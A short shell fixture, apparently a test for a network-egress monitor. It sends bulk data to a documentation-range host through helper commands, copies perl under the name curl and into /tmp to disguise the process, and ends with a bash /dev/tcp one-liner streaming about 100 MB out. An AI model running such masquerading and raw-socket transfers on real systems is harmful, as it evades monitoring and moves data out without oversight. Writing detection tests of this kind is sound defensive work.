# SPDX-License-Identifier: Apache-2.0
# hits: 4
send_much /usr/bin/perl 203.0.113.7 443 101
cp /usr/bin/perl /usr/local/bin/curl
send_much /usr/local/bin/curl 203.0.113.7 444 101
cp /usr/bin/perl /tmp/x
send_much /tmp/x 203.0.113.7 445 101
take_much 203.0.113.7 446
bash -c 'exec 3<>/dev/tcp/203.0.113.7/446; head -c 105906176 /dev/zero >&3'
